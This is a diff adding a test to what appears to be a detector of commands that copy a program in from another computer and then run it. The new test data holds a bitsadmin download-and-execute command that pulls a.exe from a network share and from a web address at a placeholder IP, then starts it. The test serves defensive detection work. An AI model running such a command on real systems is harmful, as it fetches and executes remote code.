@@ -62,3 +62,16 @@ def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> 
 )
 def test_local_copies_documents_and_unrelated_starts_are_not(text: str) -> None:
     assert copies_in_then_runs(text) is None
+
+
+SHARE = "bitsadmin /transfer j \\\\198.51.100.9\\s\\a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe"
+WEB = SHARE.replace("\\\\198.51.100.9\\s\\", "https://198.51.100.9/s/")
+
+
+def test_a_downloader_is_read_for_a_share_only() -> None:
+    # a downloader's web addresses are the download rules' (its words are not looked at for
+    # them); a share it copies from is this act's, as for any other program, and a program
+    # that is no downloader bringing the same address is read as before
+    assert copies_in_then_runs(SHARE)
+    assert copies_in_then_runs(WEB) is None
+    assert copies_in_then_runs(WEB.replace("bitsadmin", "robocopy"))
